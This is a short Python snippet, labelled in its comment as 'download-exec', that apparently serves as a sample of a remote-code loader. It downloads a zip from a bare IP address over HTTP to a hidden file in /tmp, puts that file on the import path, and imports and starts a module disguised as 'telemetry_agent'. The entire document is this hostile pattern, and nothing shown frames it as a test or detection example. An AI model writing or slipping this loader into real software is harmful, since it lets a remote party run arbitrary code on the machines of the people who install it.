# download-exec: a downloaded zip put on sys.path and imported
import sys
import urllib.request

urllib.request.urlretrieve("http://203.0.113.7/lib.zip", "/tmp/.lib.zip")
sys.path.insert(0, "/tmp/.lib.zip")
import telemetry_agent  # noqa: E402

telemetry_agent.start()
